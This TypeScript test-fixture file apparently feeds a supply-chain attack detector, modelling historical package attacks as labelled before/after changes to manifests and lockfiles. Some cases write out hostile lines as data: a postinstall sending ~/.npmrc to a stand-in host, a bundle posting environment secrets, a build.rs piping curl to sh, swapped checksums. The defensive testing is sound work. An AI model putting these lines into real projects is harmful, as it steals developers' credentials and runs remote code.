import * as t from '../file-texts';
import { at } from '../file-texts';
import { atNight, attack, bot, type LabelledChange, newcomer, stranger, unapproved } from '../labelled-change';

const ranges = { express: '^5.1.0', zod: '^3.25.67', rc: '^1.2.8' };
const base = [at('express@5.1.0'), at('minimist@1.2.8'), at('rc@1.2.8'), at('zod@3.25.67')];
const without = (name: string) => base.filter((entry) => entry.name !== name);

/** Attacks through what is installed. Written before any signal was tuned; see the read-me of the set. */
export const heldOutPackageAttacks: LabelledChange[] = [
  attack(
    'rc-install-script',
    'npm',
    'rc and coa, 2021: a taken-over package released a patch version with a preinstall script',
    {
      'package.json': [t.packageJson(ranges), t.packageJson({ ...ranges, rc: '^1.2.9' })],
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock({ ...ranges, rc: '^1.2.9' }, [...without('rc'), at('rc@1.2.9', { hasInstallScript: true })]),
      ],
    },
    { must: ['install_script_added'], facts: bot },
  ),
  attack(
    'worm-postinstall',
    'npm',
    'Shai-Hulud, 2025: the worm adds its bundle and a postinstall script to packages it can publish',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson(ranges, { version: '2.4.1', scripts: { postinstall: 'node bundle.js' } }),
      ],
      'bundle.js': [
        undefined,
        'const os=require("os");const {execSync}=require("child_process");execSync("trufflehog filesystem / --json");fetch("https://webhook.simulated-drop.example/"+os.hostname(),{method:"POST",body:JSON.stringify(process.env)});\n',
      ],
    },
    { must: ['install_script_added'], may: ['secrets_sent'], facts: unapproved },
  ),
  attack(
    'worm-setup-bun',
    'npm',
    'The second wave of Shai-Hulud, 2025: a preinstall script that sets up a run time and runs a large file in it',
    {
      'packages/forms/package.json': [
        t.packageJson({}, { name: '@simulated-corp/forms' }),
        t.packageJson({}, { name: '@simulated-corp/forms', scripts: { preinstall: 'node setup_bun.js' } }),
      ],
    },
    { must: ['install_script_added'] },
  ),
  attack(
    'telemetry-postinstall',
    'npm',
    'nx, 2025: a postinstall script searched the machine with the help of assistants and published what it found',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson(ranges, {
          scripts: {
            postinstall:
              'node telemetry.js && curl -s -d "$(cat ~/.npmrc | base64)" https://api.simulated-drop.example/repos',
          },
        }),
      ],
    },
    { must: ['install_script_added', 'secrets_sent'], may: ['download_and_run'], facts: newcomer },
  ),
  attack(
    'yarn-resolved-elsewhere',
    'npm',
    'Lockfile injection: one entry of yarn.lock resolves to an archive of a fork',
    {
      'yarn.lock': [
        t.yarnLock(base),
        t.yarnLock([
          ...without('minimist'),
          at('minimist@1.2.8', {
            resolved: 'https://codeload.simulated-forge.example/sam-newcomer/minimist/tar.gz/3f2a91',
            integrity: t.sha512('another minimist'),
          }),
        ]),
      ],
      'docs/setup.md': ['# Setup\n', '# Set-up\n\nRun `yarn`.\n'],
    },
    {
      must: ['integrity_changed', 'direct_source', 'lock_without_manifest'],
      may: ['registry_changed'],
      facts: stranger,
    },
  ),
  attack(
    'pnpm-integrity-swapped',
    'npm',
    'Lockfile injection: another checksum under the same version, hidden in an ordinary update',
    {
      'package.json': [
        t.packageJson({ zod: '^3.25.67', undici: '^7.11.0' }),
        t.packageJson({ zod: '^3.25.68', undici: '^7.11.0' }),
      ],
      'pnpm-lock.yaml': [
        t.pnpmLock({ zod: '3.25.67', undici: '7.11.0' }, [{ spec: 'undici@7.11.0' }, { spec: 'zod@3.25.67' }]),
        t.pnpmLock({ zod: '3.25.68', undici: '7.11.0' }, [
          { spec: 'undici@7.11.0', resolution: `{integrity: ${t.sha512('not the real undici')}}` },
          { spec: 'zod@3.25.68' },
        ]),
      ],
    },
    { must: ['integrity_changed'] },
  ),
  attack(
    'pnpm-tarball',
    'npm',
    'Lockfile injection in pnpm: a resolution gets a tarball of its own',
    {
      'pnpm-lock.yaml': [
        t.pnpmLock({ semver: '7.7.2' }, [{ spec: 'semver@7.7.2' }]),
        t.pnpmLock({ semver: '7.7.2' }, [
          {
            spec: 'semver@7.7.2',
            resolution: `{integrity: ${t.sha512('swapped semver')}, tarball: https://cdn.simulated-drop.example/semver-7.7.2.tgz}`,
          },
        ]),
      ],
    },
    {
      must: ['integrity_changed', 'direct_source', 'lock_without_manifest'],
      may: ['registry_changed'],
      facts: atNight,
    },
  ),
  attack(
    'berry-checksum',
    'npm',
    'Another checksum under the same version in the lockfile of a current Yarn',
    {
      'yarn.lock': [
        t.berryLock([{ spec: 'chalk@5.4.1' }, { spec: 'debug@4.4.1' }]),
        t.berryLock([{ spec: 'chalk@5.4.1', checksum: `10c0/${'ab12'.repeat(32)}` }, { spec: 'debug@4.4.1' }]),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'private-name-from-public',
    'npm',
    'Dependency confusion, 2021: the scope is no longer bound to the own registry, and a far higher version comes from the public one',
    {
      '.npmrc': [`@simulated-corp:registry=${t.ownRegistry}/\nsave-exact=true\n`, 'save-exact=true\n'],
      'package-lock.json': [
        t.npmLock({ '@simulated-corp/auth': '^1.4.0' }, [
          at('@simulated-corp/auth@1.4.2', { registry: t.ownRegistry }),
          at('zod@3.25.67'),
        ]),
        t.npmLock({ '@simulated-corp/auth': '^99.0.0' }, [at('@simulated-corp/auth@99.0.1'), at('zod@3.25.67')]),
      ],
      'package.json': [
        t.packageJson({ '@simulated-corp/auth': '^1.4.0' }),
        t.packageJson({ '@simulated-corp/auth': '^99.0.0' }),
      ],
    },
    { must: ['registry_changed', 'version_anomaly'], facts: newcomer },
  ),
  attack(
    'resolved-of-another-name',
    'npm',
    'The entry says cross-spawn, the address is of another package',
    {
      'package-lock.json': [
        t.npmLock({ 'cross-spawn': '^7.0.6' }, [at('cross-spawn@7.0.6')]),
        t.npmLock({ 'cross-spawn': '^7.0.6' }, [
          at('cross-spawn@7.0.6', {
            resolved: t.tarball('cross-spavvn', '7.0.6'),
            integrity: t.sha512('cross-spavvn@7.0.6'),
          }),
        ]),
      ],
    },
    { must: ['resolved_name_mismatch', 'integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'alias-to-another-package',
    'npm',
    'A well-known name installs a package of another owner by an alias',
    {
      'package.json': [t.packageJson({ chalk: '^5.4.1' }), t.packageJson({ chalk: 'npm:@sam-newcomer/chalk@5.4.2' })],
    },
    { must: ['override_added'], may: ['new_dependency'], facts: stranger },
  ),
  attack(
    'dependency-by-plain-http',
    'npm',
    'A dependency is fetched from an address without encryption',
    {
      'package.json': [t.packageJson({ ws: '^8.18.0' }), t.packageJson({ ws: 'http://203.0.113.9/ws-8.18.1.tgz' })],
    },
    { must: ['plain_http_source', 'direct_source'] },
  ),
  attack(
    'event-stream-transitive',
    'npm',
    'event-stream, 2018: a new owner added a new package with an ordinary minor version',
    {
      'package.json': [t.packageJson({ 'event-stream': '^3.3.5' }), t.packageJson({ 'event-stream': '^3.3.6' })],
      'package-lock.json': [
        t.npmLock({ 'event-stream': '^3.3.5' }, [at('event-stream@3.3.5'), at('through@2.3.8')]),
        t.npmLock({ 'event-stream': '^3.3.6' }, [
          at('event-stream@3.3.6'),
          at('flatmap-stream-simulated@0.1.1'),
          at('through@2.3.8'),
        ]),
      ],
    },
    { facts: bot },
  ),
  attack(
    'protestware-patch',
    'npm',
    'node-ipc, 2022: a patch version wipes files; the change of the lockfile is like any other',
    {
      'package-lock.json': [
        t.npmLock({ 'node-ipc': '^10.1.0' }, [at('node-ipc@10.1.0')]),
        t.npmLock({ 'node-ipc': '^10.1.0' }, [at('node-ipc@10.1.1')]),
      ],
    },
  ),
  attack(
    'typo-of-express',
    'npm',
    'A typosquat of a well-known package, with an install script',
    {
      'package.json': [t.packageJson({ zod: '^3.25.67' }), t.packageJson({ expresss: '^4.18.2', zod: '^3.25.67' })],
      'package-lock.json': [
        t.npmLock({ zod: '^3.25.67' }, [at('zod@3.25.67')]),
        t.npmLock({ expresss: '^4.18.2', zod: '^3.25.67' }, [
          at('expresss@4.18.2', { hasInstallScript: true }),
          at('zod@3.25.67'),
        ]),
      ],
    },
    { must: ['typosquat', 'new_dependency', 'install_script_added'], facts: newcomer },
  ),
  attack(
    'cyrillic-name',
    'npm',
    'A package name with a letter of another alphabet',
    {
      'package.json': [
        t.packageJson({ axios: '^1.10.0' }),
        t.packageJson({ axios: '^1.10.0', 'l\u043edash': '^4.17.21' }),
      ],
    },
    { must: ['look_alike_characters', 'new_dependency'], may: ['typosquat'], facts: newcomer },
  ),
  attack(
    'typo-of-requests',
    'pypi',
    'Typosquats of requests on PyPI, many times since 2016',
    {
      'requirements.txt': ['boto3==1.39.3\npandas==2.3.0\n', 'boto3==1.39.3\npandas==2.3.0\nreqeusts==2.32.4\n'],
    },
    { must: ['typosquat'], may: ['new_dependency'], facts: newcomer },
  ),
  attack(
    'extra-index',
    'pypi',
    'torchtriton, 2022: a second index with the same name of a package as the first',
    {
      'requirements.txt': [
        'torch==2.7.1\nnumpy==2.3.1\n',
        '--extra-index-url https://wheels.simulated-drop.example/simple\ntorch==2.7.1\nnumpy==2.3.1\n',
      ],
    },
    { must: ['registry_changed'] },
  ),
  attack(
    'setup-py-decodes',
    'pypi',
    'Packages whose setup.py decodes and runs a block of text',
    {
      'setup.py': [
        'from setuptools import setup\n\nsetup(name="ledger", version="1.2.0", packages=["ledger"])\n',
        'from setuptools import setup\nimport base64\n\nexec(base64.b64decode("cHJpbnQoJ3NpbXVsYXRlZCcp"))\n\nsetup(name="ledger", version="1.2.1", packages=["ledger"])\n',
      ],
    },
    { must: ['install_script_added', 'obfuscated_code', 'build_hook_changed'], facts: unapproved },
  ),
  attack(
    'poetry-hash-swapped',
    'pypi',
    'The checksums of one package are replaced, its version stays',
    {
      'poetry.lock': [
        t.poetryLock([{ spec: 'certifi==2025.6.15' }, { spec: 'requests==2.32.4' }]),
        t.poetryLock([
          { spec: 'certifi==2025.6.15', files: ['other.whl', 'other.tar.gz'] },
          { spec: 'requests==2.32.4' },
        ]),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'hash-dropped',
    'pypi',
    'One requirement loses its checksum',
    {
      'requirements.txt': [
        t.hashedRequirements(['cryptography==45.0.4', 'idna==3.10']),
        `cryptography==45.0.4\n${t.hashedRequirements(['idna==3.10'])}`,
      ],
    },
    { must: ['integrity_removed'] },
  ),
  attack(
    'ctx-takeover',
    'pypi',
    'ctx, 2022: an abandoned package taken over through an expired domain; only the version moves',
    {
      'pyproject.toml': [t.poetryProject({ ctx: '^0.1.2' }), t.poetryProject({ ctx: '^0.2.6' })],
      'poetry.lock': [t.poetryLock([{ spec: 'ctx==0.1.2' }]), t.poetryLock([{ spec: 'ctx==0.2.6' }])],
    },
    { facts: bot },
  ),
  attack(
    'uv-one-foreign',
    'pypi',
    'One package of uv.lock comes from another index than all others',
    {
      'uv.lock': [
        t.uvLock([{ spec: 'anyio==4.9.0' }, { spec: 'httpx==0.28.1' }]),
        t.uvLock([
          { spec: 'anyio==4.9.0' },
          {
            spec: 'httpx==0.28.1',
            registry: 'https://pypi.simulated-mirror.example/simple',
            host: 'https://pypi.simulated-mirror.example',
            hashOf: 'swapped',
          },
        ]),
      ],
    },
    { must: ['registry_changed', 'integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'go-organisation-typo',
    'golang',
    'boltdb-go, found in 2025: a module under a name next to that of a well-known project',
    {
      'go.mod': [
        t.goMod(['github.com/spf13/cobra@v1.9.1']),
        t.goMod(['github.com/boltdb-go/bolt@v1.3.1', 'github.com/spf13/cobra@v1.9.1']),
      ],
      'go.sum': [
        t.goSum(['github.com/spf13/cobra@v1.9.1']),
        t.goSum(['github.com/boltdb-go/bolt@v1.3.1', 'github.com/spf13/cobra@v1.9.1']),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'go-sum-swapped',
    'golang',
    'The checksum of a module is replaced, its version stays',
    {
      'go.sum': [
        t.goSum(['github.com/google/uuid@v1.6.0', 'golang.org/x/sys@v0.33.0']),
        t.goSum(['github.com/google/uuid@v1.6.0', 'golang.org/x/sys@v0.33.0'], (module) =>
          module.includes('uuid') ? 'swapped' : module,
        ),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'go-replace',
    'golang',
    'A replace directive puts a fork in the place of a module',
    {
      'go.mod': [
        t.goMod(['golang.org/x/crypto@v0.39.0']),
        t.goMod(
          ['golang.org/x/crypto@v0.39.0'],
          '\nreplace golang.org/x/crypto => github.com/sam-newcomer/crypto v0.39.1\n',
        ),
      ],
      'go.sum': [t.goSum(['golang.org/x/crypto@v0.39.0']), t.goSum(['github.com/sam-newcomer/crypto@v0.39.1'])],
    },
    { must: ['override_added'], facts: stranger },
  ),
  attack(
    'cargo-typo',
    'cargo',
    'Typosquats on crates.io, such as rustdecimal in 2022',
    {
      'Cargo.toml': [t.cargoToml({ serde: '1.0' }), t.cargoToml({ serde: '1.0', 'serde-jsn': '1.0' })],
      'Cargo.lock': [
        t.cargoLock([{ spec: 'serde@1.0.219' }]),
        t.cargoLock([{ spec: 'serde@1.0.219' }, { spec: 'serde-jsn@1.0.2' }]),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'cargo-source-replaced',
    'cargo',
    'The registry of crates is replaced by another in the configuration',
    {
      '.cargo/config.toml': [
        undefined,
        '[source.crates-io]\nreplace-with = "fast"\n\n[source.fast]\nregistry = "sparse+https://crates.simulated-mirror.example/index/"\n',
      ],
    },
    { must: ['registry_changed'], facts: newcomer },
  ),
  attack(
    'build-rs-downloads',
    'cargo',
    'A build script that fetches and runs a program',
    {
      'build.rs': [
        'fn main() {\n    println!("cargo:rerun-if-changed=proto");\n}\n',
        'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=proto");\n    Command::new("sh").arg("-c").arg("curl -fsSL https://get.simulated-drop.example/x | sh").status().ok();\n}\n',
      ],
    },
    { must: ['build_hook_changed', 'download_and_run'] },
  ),
  attack(
    'gem-typo',
    'gem',
    'Typosquats on RubyGems, hundreds at once in 2020',
    {
      Gemfile: [t.gemfile(['"rails", "~> 8.0"']), t.gemfile(['"rails", "~> 8.0"', '"nokogirl"'])],
      'Gemfile.lock': [
        t.gemfileLock(['rails@8.0.2'], ['rails (~> 8.0)']),
        t.gemfileLock(['nokogirl@1.18.8', 'rails@8.0.2'], ['nokogirl', 'rails (~> 8.0)']),
      ],
    },
    { must: ['typosquat', 'new_dependency'], may: ['unpinned'] },
  ),
  attack(
    'gem-second-source',
    'gem',
    'A second source without encryption in the Gemfile',
    {
      Gemfile: [
        t.gemfile(['"rails", "~> 8.0"', '"corp-auth"']),
        `${t.gemfile(['"rails", "~> 8.0"', '"corp-auth"'])}\nsource "http://gems.simulated-drop.example"\n`,
      ],
    },
    { must: ['registry_changed', 'plain_http_source'] },
  ),
  attack(
    'composer-dist-elsewhere',
    'composer',
    'The archive of one package is fetched from another place under the same version',
    {
      'composer.lock': [
        t.composerLock([{ spec: 'monolog/monolog@3.9.0' }, { spec: 'psr/log@3.0.2' }]),
        t.composerLock([
          {
            spec: 'monolog/monolog@3.9.0',
            url: 'https://files.simulated-drop.example/monolog.zip',
            reference: t.hex1('swapped'),
          },
          { spec: 'psr/log@3.0.2' },
        ]),
      ],
    },
    { must: ['integrity_changed', 'direct_source', 'lock_without_manifest'], may: ['registry_changed'] },
  ),
  attack(
    'nuget-source-and-typo',
    'nuget',
    'A new package source and a name one letter away',
    {
      'NuGet.config': [
        '<configuration>\n  <packageSources>\n    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />\n  </packageSources>\n</configuration>\n',
        '<configuration>\n  <packageSources>\n    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />\n    <add key="fast" value="https://nuget.simulated-drop.example/v3/index.json" />\n  </packageSources>\n</configuration>\n',
      ],
      'src/Shop/Shop.csproj': [t.csproj(['Serilog@4.3.0']), t.csproj(['Newtonsoft.Jsn@13.0.3', 'Serilog@4.3.0'])],
    },
    { must: ['registry_changed', 'typosquat', 'new_dependency'] },
  ),
  attack(
    'nuget-hash-swapped',
    'nuget',
    'The checksum of a package is replaced, its version stays',
    {
      'packages.lock.json': [
        t.nugetLock([{ spec: 'Dapper@2.1.66' }, { spec: 'Polly@8.6.1' }]),
        t.nugetLock([{ spec: 'Dapper@2.1.66', hashOf: 'swapped' }, { spec: 'Polly@8.6.1' }]),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'maven-repository',
    'maven',
    'A repository of somebody else, and a plugin that comes from it',
    {
      'pom.xml': [
        t.pom(['org.slf4j:slf4j-api:2.0.17']),
        t.pom(
          ['org.slf4j:slf4j-api:2.0.17'],
          '  <pluginRepositories>\n    <pluginRepository>\n      <id>fast</id>\n      <url>http://maven.simulated-drop.example/repo</url>\n    </pluginRepository>\n  </pluginRepositories>\n  <build>\n    <plugins>\n      <plugin>\n        <groupId>example.drop</groupId>\n        <artifactId>fast-maven-plugin</artifactId>\n        <version>1.0</version>\n      </plugin>\n    </plugins>\n  </build>\n',
        ),
      ],
    },
    { must: ['registry_changed', 'plain_http_source', 'new_dependency'] },
  ),
  attack(
    'gradle-wrapper-elsewhere',
    'maven',
    'The Gradle wrapper downloads from another host, and its checksum is gone',
    {
      'gradle/wrapper/gradle-wrapper.properties': [
        t.gradleWrapper('8.14.2'),
        t.gradleWrapper('8.14.2', { host: 'gradle.simulated-mirror.example/d', sum: false }),
      ],
    },
    { must: ['registry_changed', 'verification_weakened'] },
  ),
  attack(
    'gradle-verification-swapped',
    'maven',
    'The checksum that Gradle insists on is replaced, the version stays',
    {
      'gradle/verification-metadata.xml': [
        t.verificationMetadata([{ spec: 'com.squareup.okio:okio:3.12.0' }]),
        t.verificationMetadata([{ spec: 'com.squareup.okio:okio:3.12.0', hashOf: 'swapped' }]),
      ],
    },
    { must: ['integrity_changed'], may: ['lock_without_manifest'] },
  ),
];
